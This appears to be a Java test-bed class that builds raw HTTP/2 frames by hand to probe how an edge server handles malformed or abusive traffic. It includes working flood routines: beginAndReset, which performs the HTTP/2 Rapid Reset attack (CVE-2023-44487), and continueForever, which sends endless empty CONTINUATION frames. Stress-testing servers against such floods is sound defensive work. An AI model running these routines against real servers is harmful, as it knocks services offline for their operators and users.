package kcd.edge.bed;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.http2.DefaultHttp2HeadersDecoder;
import io.netty.handler.codec.http2.Http2Exception;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import javax.net.ssl.SSLSocket;

/// HTTP/2 as no client would speak it: one request from the very fields it is given, unchecked. RFC 9113, RFC 7541.
public final class RawHttp2 implements AutoCloseable {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int CONTINUATION = 9;
    private static final int ACK = 1;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int PRIORITY = 0x20;
    private static final int PRIORITY_LENGTH = 5;
    private static final int MAX_FRAME = 16_384;
    private static final int ONE_BYTE_LENGTH = 127;

    private final SSLSocket socket;
    private int stream = -1;
    private final DataInputStream in;
    private final Map<Integer, Long> settings = new HashMap<>();

    /// One for the connection: each header may refer to those before it.
    private final DefaultHttp2HeadersDecoder decoder = new DefaultHttp2HeadersDecoder(false);

    /// @param socket a TLS connection on which h2 was agreed
    public RawHttp2(SSLSocket socket) throws IOException {
        this.socket = socket;
        this.in = new DataInputStream(socket.getInputStream());
        socket.getOutputStream().write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(SETTINGS, 0, 0, new byte[0]);
    }

    /// Sends a request on the next stream; fields are name, value, name, value.
    public void send(String body, String... fields) throws IOException {
        stream += 2;
        byte[] block = encode(fields);
        boolean first = true;
        int end = body.isEmpty() ? END_STREAM : 0;
        for (int from = 0; first || from < block.length; from += MAX_FRAME) {
            int length = Math.min(MAX_FRAME, block.length - from);
            byte[] part = java.util.Arrays.copyOfRange(block, from, from + length);
            int flags = (first ? end : 0) | (from + length >= block.length ? END_HEADERS : 0);
            frame(first ? HEADERS : CONTINUATION, flags, stream, part);
            first = false;
        }
        if (!body.isEmpty()) {
            frame(DATA, END_STREAM, stream, body.getBytes(StandardCharsets.ISO_8859_1));
        }
    }

    /// Begins a request on a stream and takes it back at once, as often as told: CVE-2023-44487. RFC 9113 section 10.5.
    public void beginAndReset(int times, String... fields) throws IOException {
        byte[] block = encode(fields);
        byte[] cancel = {0, 0, 0, 8};
        for (int i = 0; i < times; i++) {
            stream += 2;
            frame(HEADERS, END_STREAM | END_HEADERS, stream, block);
            frame(RST_STREAM, 0, stream, cancel);
        }
    }

    /// Begins a header and goes on with it in frames that have nothing in them. RFC 9113 section 6.10.
    public void continueForever(int times, String... fields) throws IOException {
        frame(HEADERS, END_STREAM, 1, encode(fields));
        for (int i = 0; i < times; i++) {
            frame(CONTINUATION, 0, 1, new byte[0]);
        }
    }

    /// What became of it: the status, or RST_STREAM, GOAWAY or CLOSED.
    public String outcome() throws IOException {
        try {
            return orderlyOutcome();
        } catch (SocketException _) {
            return "CLOSED";
        }
    }

    /// The same, where a connection that is torn down, not closed, is an error.
    public String orderlyOutcome() throws IOException {
        try {
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                int flags = in.readUnsignedByte();
                int about = in.readInt();
                byte[] payload = in.readNBytes(length);
                switch (type) {
                    case HEADERS -> {
                        return status(flags, payload);
                    }
                    case RST_STREAM -> {
                        return "RST_STREAM";
                    }
                    case GOAWAY -> {
                        return "GOAWAY";
                    }
                    case SETTINGS -> settled(flags, payload);
                    default -> {
                        if (about < 0) {
                            throw new IOException("reserved bit");
                        }
                    }
                }
            }
        } catch (EOFException _) {
            return "CLOSED";
        }
    }

    /// A setting the server announced, by its number (RFC 9113 section 6.5.2); known once there is an outcome.
    public long setting(int number) {
        return settings.getOrDefault(number, -1L);
    }

    private void settled(int flags, byte[] payload) throws IOException {
        if ((flags & ACK) != 0) {
            return;
        }
        ByteBuf pairs = Unpooled.wrappedBuffer(payload);
        while (pairs.isReadable()) {
            settings.put(pairs.readUnsignedShort(), pairs.readUnsignedInt());
        }
        frame(SETTINGS, ACK, 0, new byte[0]);
    }

    private String status(int flags, byte[] payload) throws IOException {
        ByteBuf block = Unpooled.wrappedBuffer(payload);
        if ((flags & PRIORITY) != 0) {
            block.skipBytes(PRIORITY_LENGTH);
        }
        try {
            return String.valueOf(decoder.decodeHeaders(1, block).status());
        } catch (Http2Exception e) {
            throw new IOException(e);
        }
    }

    private void frame(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteBuf frame = Unpooled.buffer()
                .writeMedium(payload.length)
                .writeByte(type)
                .writeByte(flags)
                .writeInt(stream)
                .writeBytes(payload);
        socket.getOutputStream().write(frame.array(), 0, frame.readableBytes());
    }

    /// Literal fields without indexing, with new names, not Huffman coded. RFC 7541 section 6.2.2.
    private static byte[] encode(String... fields) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (int i = 0; i < fields.length; i += 2) {
            block.write(0);
            text(block, fields[i]);
            text(block, fields[i + 1]);
        }
        return block.toByteArray();
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        if (bytes.length < ONE_BYTE_LENGTH) {
            block.write(bytes.length);
        } else {
            block.write(ONE_BYTE_LENGTH);
            int rest = bytes.length - ONE_BYTE_LENGTH;
            while (rest >= 128) {
                block.write(rest % 128 + 128);
                rest /= 128;
            }
            block.write(rest);
        }
        block.writeBytes(bytes);
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
